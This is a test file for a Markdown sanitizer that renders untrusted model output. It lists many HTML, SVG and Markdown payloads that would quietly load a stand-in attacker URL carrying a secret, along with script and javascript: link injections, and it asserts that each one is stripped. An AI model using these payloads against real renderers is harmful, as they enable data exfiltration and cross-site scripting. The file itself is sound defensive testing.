// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { ALLOWED_ATTR, ALLOWED_TAGS, allowedAttributes, renderMarkdown } from './markdown';

const EVIL = 'https://evil.example/x?d=SECRET';

/** Every element in the output is on the allow-list and carries only its own attributes. */
function assertOnlyAllowed(html: string): Document {
  const doc = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
  for (const el of doc.body.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    expect(ALLOWED_TAGS, `tag <${tag}> in ${html}`).toContain(tag);
    for (const name of el.getAttributeNames()) {
      expect(allowedAttributes(tag), `${tag}[${name}] in ${html}`).toContain(name);
    }
    for (const attr of el.attributes) {
      // The attacker's URL may survive only as a link a person clicks.
      if (attr.value.includes('evil.example')) expect(`${tag}[${attr.name}]`).toBe('a[href]');
    }
  }
  return doc;
}

// Every HTML/SVG/MathML construct known to fetch (or to carry a URL) without a click.
const URL_BEARING: readonly string[] = [
  `<table background="${EVIL}"><tr><td>x</td></tr></table>`,
  `<table><tbody background="${EVIL}"><tr background="${EVIL}"><th background="${EVIL}">h</th><td background="${EVIL}">d</td></tr></tbody></table>`,
  `<table><thead background="${EVIL}"><tr><th>h</th></tr></thead><tfoot background="${EVIL}"><tr><td>f</td></tr></tfoot></table>`,
  `<body background="${EVIL}">b</body>`,
  `<div style="background:url(${EVIL})">styled</div>`,
  `<p style="background-image:url('${EVIL}')">p</p>`,
  `<style>@import url(${EVIL}); p{background:url(${EVIL})}</style>`,
  `<link rel="stylesheet" href="${EVIL}"><link rel="prefetch" href="${EVIL}">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<base href="${EVIL}">`,
  `<img src="${EVIL}"><img srcset="${EVIL} 2x"><img lowsrc="${EVIL}"><img dynsrc="${EVIL}"><img longdesc="${EVIL}">`,
  `<picture><source srcset="${EVIL}"><img alt="a"></picture>`,
  `<video poster="${EVIL}" src="${EVIL}"><track src="${EVIL}"></video><audio src="${EVIL}"></audio>`,
  `<input type="image" src="${EVIL}"><input type="checkbox">`,
  `<iframe src="${EVIL}"></iframe><iframe srcdoc="<img src='${EVIL}'>"></iframe><frame src="${EVIL}">`,
  `<object data="${EVIL}" codebase="${EVIL}" archive="${EVIL}" classid="${EVIL}"></object><embed src="${EVIL}">`,
  `<applet code="x" codebase="${EVIL}"></applet>`,
  `<form action="${EVIL}"><button formaction="${EVIL}">go</button></form>`,
  `<a href="https://ok.example" ping="${EVIL}">ping</a>`,
  `<blockquote cite="${EVIL}">q</blockquote><q cite="${EVIL}">q</q><del cite="${EVIL}">d</del><ins cite="${EVIL}">i</ins>`,
  `<img usemap="#m"><map name="m"><area href="${EVIL}" shape="rect" coords="0,0,9,9"></map>`,
  `<svg><image href="${EVIL}"></image><image xlink:href="${EVIL}"></image></svg>`,
  `<svg><use href="${EVIL}#x"></use><feImage href="${EVIL}"></feImage><a xlink:href="${EVIL}"><text>t</text></a></svg>`,
  `<svg><style>@import url(${EVIL});</style><script href="${EVIL}"></script></svg>`,
  `<math href="${EVIL}"><mi xlink:href="${EVIL}">x</mi></math>`,
  `<html manifest="${EVIL}"><head profile="${EVIL}"></head></html>`,
  `<command icon="${EVIL}">c</command><menuitem icon="${EVIL}">m</menuitem>`,
  `<div data-src="${EVIL}" aria-describedby="x" class="btn" id="approve">attrs</div>`,
  `<td background="${EVIL}">lone cell</td><th background="${EVIL}">lone th</th><tr background="${EVIL}"></tr>`,
  `<p><a href="${EVIL}" target="_self" rel="opener">fine link</a></p>`,
  `<a href="javascript:fetch('${EVIL}')">js</a><a href="data:text/html,<img src=${EVIL}>">data</a><a href="//evil.example/x">rel</a>`,
  `![img](${EVIL}) [![nested](${EVIL})](https://ok.example)`,
  `<noscript><img src="${EVIL}"></noscript><template><img src="${EVIL}"></template>`,
  `<portal src="${EVIL}"></portal><fencedframe src="${EVIL}"></fencedframe>`,
];

describe('renderMarkdown (untrusted model output)', () => {
  it('renders Markdown', () => {
    const html = renderMarkdown('**3** items left\n\n- a\n- b\n\n`code`\n\n| a | b |\n|:--|--:|\n| 1 | 2 |');
    expect(html).toContain('<strong>3</strong>');
    expect(html).toContain('<li>a</li>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<td align="right">2</td>');
    assertOnlyAllowed(html);
  });

  it('renders GFM task lists as glyphs, not form controls', () => {
    const html = renderMarkdown('- [x] done\n- [ ] todo');
    expect(html).not.toContain('<input');
    expect(html).toContain('☑');
    expect(html).toContain('☐');
  });

  it('strips scripts, event handlers and javascript: links', () => {
    const html = renderMarkdown(
      '<script>alert(1)</script><b onmouseover="x()">hi</b> <iframe src="https://e.example"></iframe>',
    );
    expect(html).not.toMatch(/script|onmouseover|iframe/i);
    expect(html).toContain('<b>hi</b>');
    const link = renderMarkdown('Click [here](javascript:alert(1)) or [there](data:text/html,x)');
    expect(link).not.toMatch(/href|javascript:|data:/i);
    expect(link).toContain('here');
  });

  it('never loads images (an exfiltration channel) and opens links in a new tab', () => {
    const html = renderMarkdown(
      '![secret](https://evil.example/x?d=SECRET) <img src="https://evil.example/y"> [site](https://ok.example)',
    );
    expect(html).not.toContain('<img');
    expect(html).toContain('[image: secret]');
    const doc = new DOMParser().parseFromString(html, 'text/html');
    const site = [...doc.querySelectorAll('a')].find((a) => a.textContent === 'site');
    expect(site?.getAttribute('target')).toBe('_blank');
    expect(site?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it.each(URL_BEARING)('drops every URL-bearing tag and attribute: %s', (input) => {
    const html = renderMarkdown(input);
    assertOnlyAllowed(html);
    for (const attr of ['background', 'src', 'srcset', 'poster', 'xlink:href', 'action', 'formaction', 'ping']) {
      expect(html).not.toContain(`${attr}=`);
    }
    expect(html).not.toMatch(/cite=|longdesc=|style=|data=|codebase=|manifest=|icon=|srcdoc=|url\(/i);
  });

  it('keeps only http(s) and mailto links, with the attacker URL visible as a link at most', () => {
    const html = renderMarkdown(`[a](${EVIL}) [m](mailto:x@example.com) [f](ftp://evil.example/) [r](/relative)`);
    const doc = assertOnlyAllowed(html);
    const hrefs = [...doc.querySelectorAll('a[href]')].map((a) => a.getAttribute('href'));
    expect(hrefs).toEqual([EVIL, 'mailto:x@example.com']);
  });

  it('has an allow-list with no URL attribute but href', () => {
    expect(ALLOWED_ATTR.filter((a) => a !== 'href')).toEqual(
      expect.not.arrayContaining(['background', 'src', 'srcset', 'poster', 'style', 'cite', 'action', 'data']),
    );
    expect(ALLOWED_TAGS).toEqual(expect.not.arrayContaining(['img', 'svg', 'math', 'style', 'input', 'form']));
  });
});
